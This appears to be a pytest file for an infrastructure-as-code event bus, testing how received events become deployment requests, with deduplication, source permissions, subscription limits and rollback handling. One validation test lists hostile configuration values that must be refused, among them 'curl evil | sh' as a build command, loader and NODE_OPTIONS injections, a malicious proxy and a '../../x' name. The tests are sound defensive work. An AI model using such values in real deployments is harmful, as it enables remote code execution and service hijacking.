"""Received events become requests by the configuration of their environment, with the real application."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from semantest_iac.application.intake.infrastructure_event_bus import (
    EventDeferredError,
    EventResult,
    InfrastructureEventBus,
)
from semantest_iac.application.intake.received_events import read_received_event, wrap_event
from semantest_iac.application.queries.history import JOURNAL_PREFIX
from semantest_iac.bootstrap.application import Application
from semantest_iac.domain.errors import DeploymentError
from semantest_iac_events.deployments import DeploymentRejected, DeploymentRequested
from semantest_iac_events.event import Event
from semantest_iac_events.forms.cloudevents import from_cloudevent, to_cloudevent
from semantest_iac_events.infrastructure import InfrastructureRemovalRequested, RollbackRequested

CONFIGURATION = """\
components:
  rest-api: {memory: 512, environment: {TOKEN: "${secrets.token}", PLACE: "${env.PLACE}"}}
  websocket: {}
  prod: {type: rest-api}
environments:
  qa: {provider: azure, region: westeurope, engine: sandbox}
event_sources:
  limited: {type: files, folder: in, environments: [qa], components: [rest-api, prod]}
subscriptions:
  both: {event: ServerConfigurationChanged, action: deploy, component: websocket}
  also: {event: ServerConfigurationChanged, action: deploy, component: rest-api, limit: 2/3600}
  drift: {event: ServerError, action: drift-check, component: rest-api}
  rollback: {event: DeploymentWentWrong, action: rollback, component: rest-api}
"""


class Place:
    """A folder with a configuration, and the bus that reads it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.write(CONFIGURATION)
        (folder / ".env").write_text("SEMANTEST_SECRET_TOKEN=a-token-that-is-secret\nPLACE=here\n", encoding="utf-8")
        self.application = Application(folder / ".semantest")
        self.bus = self.open_bus()

    def write(self, text: str) -> None:
        (self.folder / "semantest.yaml").write_text(text, encoding="utf-8")

    def open_bus(self) -> InfrastructureEventBus:
        return self.application.event_bus(self.application.folder_variables)

    def receive(self, form: dict[str, Any], source: str = "core") -> list[EventResult]:
        return asyncio.run(self.bus.receive(read_received_event(form, source)))

    def recorded(self) -> list[Event]:
        """The published events of the ledger."""
        rows = self.application.ledger.log()
        return [from_cloudevent(row.event) for row in rows if not row.type.startswith(JOURNAL_PREFIX)]

    def newest_section(self) -> Any:
        """The settings of rest-api in the newest request."""
        configuration: Any = self.newest_request().configuration
        return configuration["components"]["rest-api"]

    def newest_request(self) -> DeploymentRequested:
        return [event for event in self.recorded() if isinstance(event, DeploymentRequested)][-1]


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    monkeypatch.chdir(tmp_path)
    return Place(tmp_path)


def needed(number: int = 1, component: str = "rest-api", **payload: Any) -> dict[str, Any]:
    return {
        "eventId": f"evt_{number}",
        "eventType": "ServiceDeploymentNeeded",
        "aggregateId": component,
        "timestamp": "2026-11-30T08:00:00Z",
        "payload": {"serviceType": component, **payload},
        "metadata": {"correlationId": f"c{number}"},
    }


def changed(number: int = 1, kind: str = "ServerConfigurationChanged") -> dict[str, Any]:
    return {"type": kind, "correlationId": f"c{number}", "timestamp": 1_795_000_000_000 + number, "payload": {}}


class TestServiceDeploymentNeeded:
    def test_is_deployed_where_its_environment_says(self, place: Place) -> None:
        [result] = place.receive(needed(environment="qa", serviceConfig={"memory": 1024}))

        request = place.newest_request()
        assert (result.outcome, result.stack) == ("accepted", "rest-api.azure.qa.westeurope")
        assert (request.correlation_id, place.newest_section()["memory"]) == ("c1", 1024)
        assert request.requested_by == "event semantest.service.deployment.needed from core"
        assert place.bus.get_provider_for_environment("QA") == "azure"
        assert place.bus.get_provider_for_environment("development") == "aws"

    def test_leads_to_one_deployment_however_often_it_comes(self, place: Place) -> None:
        first = place.receive(needed(1))
        again = [place.receive({**needed(1), "eventId": f"evt_{number}"}) for number in range(2, 5)]

        assert [result.outcome for results in again for result in results] == ["duplicate"] * 3
        assert {result.deployment for results in again for result in results} == {first[0].deployment}

    @pytest.mark.parametrize(
        ("configuration", "paths"),
        [
            ({"source": "/etc"}, ["components.rest-api.source"]),
            (
                {"build": "curl evil | sh", "handler": "x.y"},
                ["components.rest-api.build", "components.rest-api.handler"],
            ),
            ({"environment": {"A": "${env.HOME}"}}, ["components.rest-api.environment.A"]),
            ({"environment": {"A": "x ${secrets.other}"}}, ["components.rest-api.environment.A"]),
            ({"tags": {"A": "${secrets.token}"}}, ["components.rest-api.tags.A"]),
            (
                {"environment": {"NODE_OPTIONS": "--import=data:text/javascript,0"}},
                ["components.rest-api.environment.NODE"],
            ),
            ({"environment": {"ld_preload": "/tmp/x", "PythonPath": "/tmp"}}, ["ld_preload", "PythonPath"]),
            ({"environment": {"AWS_LAMBDA_EXEC_WRAPPER": "/tmp/x"}}, ["AWS_LAMBDA_EXEC_WRAPPER"]),
            ({"environment": {"HTTPS_PROXY": "http://evil", "PRE_BUILD_COMMAND": "sh"}}, ["HTTPS_PROXY", "PRE_BUILD"]),
            ({"environment": {"TOKEN": "another one"}}, ["components.rest-api.environment.TOKEN"]),
            ({"memory": 1}, ["components.rest-api.memory"]),
            ({"memroy": 512}, ["components.rest-api.memroy"]),
        ],
        ids=[
            *("source", "build", "variable", "secret", "known secret elsewhere"),
            *("options of node", "loader in any case", "wrapper of Lambda", "proxy", "instead of a secret"),
            *("value", "unknown"),
        ],
    )
    def test_is_answered_where_it_says_what_it_may_not(
        self, place: Place, configuration: dict[str, Any], paths: list[str]
    ) -> None:
        [result] = place.receive(needed(serviceConfig=configuration))

        [rejected] = place.recorded()
        assert isinstance(rejected, DeploymentRejected)
        assert (result.outcome, rejected.code, rejected.correlation_id) == ("refused", "VALIDATION_ERROR", "c1")
        assert all(path in rejected.reason for path in paths)

    def test_may_say_what_the_configuration_says(self, place: Place) -> None:
        variables = {"TOKEN": "${secrets.token}", "PLACE": "here"}

        [result] = place.receive(needed(serviceConfig={"environment": variables}))

        assert result.outcome == "accepted"

    @pytest.mark.parametrize(
        ("component", "environment"),
        [("nothing", "qa"), ("rest-api", "nowhere"), ("../../x", "qa"), ("x" * 250, None), ("rest-api", "\u202e")],
    )
    def test_is_answered_for_names_that_are_unknown(
        self, place: Place, component: str, environment: str | None
    ) -> None:
        [result] = place.receive(needed(component=component, environment=environment))

        [rejected] = place.recorded()
        assert isinstance(rejected, DeploymentRejected)
        assert (result.outcome, rejected.correlation_id) == ("refused", "c1")

    def test_waits_while_the_configuration_is_faulty(self, place: Place) -> None:
        place.write(CONFIGURATION + "componets: {}\n")

        with pytest.raises(DeploymentError) as waiting:
            place.receive(needed())
        place.write(CONFIGURATION)

        assert (waiting.value.error_code, [fault.path for fault in waiting.value.faults]) == (
            "CONFIGURATION_FAULTY",
            ["componets"],
        )
        assert place.receive(needed())[0].outcome == "accepted"

    def test_takes_the_configuration_as_it_is_now(self, place: Place) -> None:
        place.receive(needed(1))
        place.write(CONFIGURATION.replace("memory: 512", "memory: 2048"))

        place.receive(needed(2))

        assert place.newest_section()["memory"] == 2048

    @pytest.mark.parametrize(
        ("component", "environment", "outcome"),
        [
            ("rest-api", "qa", "accepted"),
            ("prod", "qa", "accepted"),
            ("websocket", "qa", "refused"),
            ("rest-api", None, "refused"),
        ],
    )
    def test_is_limited_by_its_source(
        self, place: Place, component: str, environment: str | None, outcome: str
    ) -> None:
        [result] = place.receive(needed(component=component, environment=environment), "limited")

        assert result.outcome == outcome
        assert result.code == ("" if outcome == "accepted" else "SOURCE_NOT_ALLOWED")


class TestRequests:
    def test_of_another_tool_are_deployed_with_the_configuration_here(self, place: Place) -> None:
        request = DeploymentRequested(
            component="rest-api",
            provider="aws",
            environment="development",
            region="eu-west-1",
            configuration={"components": {"rest-api": {"memory": 256}}},
        )

        [result] = place.receive(to_cloudevent(request))

        recorded = place.newest_request()
        assert (result.deployment, recorded.id, recorded.region) == (request.deployment_id, request.id, "eu-west-1")
        section = place.newest_section()
        assert (section["memory"], section["environment"]["TOKEN"]) == (256, "${secrets.token}")

    def test_that_were_published_here_lead_to_nothing_when_they_come_back(self, place: Place) -> None:
        [accepted] = place.receive(needed())

        [result] = place.receive(to_cloudevent(place.newest_request()), "nats")

        assert (result.outcome, result.deployment) == ("duplicate", accepted.deployment)
        assert len(place.recorded()) == 1

    def test_of_code_elsewhere_are_refused(self, place: Place) -> None:
        request = DeploymentRequested(
            component="rest-api",
            provider="aws",
            environment="development",
            region="us-east-1",
            configuration={"components": {"rest-api": {"source": "/etc"}}, "engine": "pulumi"},
        )

        [result] = place.receive(to_cloudevent(request))

        assert (result.outcome, "components.rest-api.source" in result.reason) == ("refused", True)

    @pytest.mark.parametrize("is_allowed", [False, True])
    def test_of_removals_need_a_source_that_may_request_them(self, place: Place, is_allowed: bool) -> None:
        place.write(CONFIGURATION.replace("folder: in,", f"folder: in, removals: {str(is_allowed).lower()},"))
        place.bus = place.open_bus()
        removal = InfrastructureRemovalRequested(
            component="rest-api", provider="azure", environment="qa", region="westeurope"
        )

        [result] = asyncio.run(place.bus.receive(wrap_event(removal, "limited")))

        assert (result.outcome, result.code) == (("accepted", "") if is_allowed else ("refused", "SOURCE_NOT_ALLOWED"))

    @pytest.mark.parametrize("is_allowed", [False, True])
    def test_that_accept_to_lose_data_need_such_a_source_too(self, place: Place, is_allowed: bool) -> None:
        place.write(CONFIGURATION.replace("folder: in,", f"folder: in, removals: {str(is_allowed).lower()},"))
        place.bus = place.open_bus()
        rollback = RollbackRequested(
            component="rest-api",
            provider="azure",
            environment="qa",
            region="westeurope",
            accepted_data_loss=("secret-first",),
        )

        [result] = asyncio.run(place.bus.receive(wrap_event(rollback, "limited")))

        expected = "NOT_FOUND" if is_allowed else "SOURCE_NOT_ALLOWED"  # nothing is deployed yet
        assert (result.outcome, result.code) == ("refused", expected)

    def test_of_removals_are_queued(self, place: Place) -> None:
        removal = InfrastructureRemovalRequested(
            component="rest-api", provider="aws", environment="development", region="us-east-1"
        )

        [result] = asyncio.run(place.bus.receive(wrap_event(removal, "core")))

        assert (result.outcome, result.deployment) == ("accepted", removal.deployment_id)


class TestSubscriptions:
    def test_lead_to_a_request_each(self, place: Place) -> None:
        results = place.receive(changed())

        assert [(it.outcome, it.subscription, it.stack) for it in results] == [
            ("accepted", "both", "websocket.aws.development.us-east-1"),
            ("accepted", "also", "rest-api.aws.development.us-east-1"),
        ]
        assert [it.outcome for it in place.receive(changed())] == ["duplicate", "duplicate"]

    def test_have_limits_of_their_own(self, place: Place) -> None:
        outcomes = [[it.outcome for it in place.receive(changed(number))] for number in range(1, 5)]

        assert outcomes == [["accepted"] * 2, ["accepted"] * 2, ["accepted", "refused"], ["accepted", "refused"]]

    def test_that_are_far_too_many_come_again_later(self, place: Place) -> None:
        outcomes = [[it.outcome for it in place.receive(changed(number))] for number in range(1, 5)]

        with pytest.raises(EventDeferredError):
            place.receive(changed(5))

        assert outcomes[-1] == ["accepted", "refused"]

    def test_ask_for_drift_checks(self, place: Place) -> None:
        [result] = place.receive(changed(kind="ServerError"))

        [check] = place.application.run_queue.list_checks()
        assert (result.outcome, check.stack, check.outcome) == (
            "checking",
            "rest-api.aws.development.us-east-1",
            "requested",
        )

    def test_of_what_has_nothing_to_go_back_to_are_answered(self, place: Place) -> None:
        [result] = place.receive(changed(kind="DeploymentWentWrong"))

        assert (result.outcome, result.code) == ("refused", "NOT_FOUND")

    def test_count_every_outcome(self, place: Place) -> None:
        place.receive(changed())
        place.receive(changed())
        place.receive(changed(kind="Unknown"))

        assert place.bus.counts == {("core", "accepted"): 2, ("core", "duplicate"): 2, ("core", "skipped"): 1}
